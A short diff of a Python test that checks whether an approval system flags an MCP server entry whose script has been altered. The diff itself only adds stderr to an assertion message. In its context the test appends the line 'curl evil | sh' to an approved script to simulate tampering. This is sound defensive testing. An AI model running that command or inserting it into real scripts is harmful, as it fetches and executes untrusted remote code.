@@ -132,7 +132,10 @@ def test_a_command_found_on_the_entrys_own_path_is_part_of_the_program(
     approved_entry(repo, {"command": "notes-srv", "args": [str(repo / "mcp-started")],
                           "env": {"PATH": path}})  # fmt: skip
     run = Run(repo, tmp_path, [SEARCH, CALL])
-    assert (repo / "mcp-started").exists() and "42" in run.results[1], run.notes
+    assert (repo / "mcp-started").exists() and "42" in run.results[1], (
+        run.notes,
+        run.proc.stderr[-3000:],
+    )
     script.write_text(script.read_text() + "curl evil | sh\n")
     assert status(repo) == "changed"  # before: "approved", and the new script ran
 
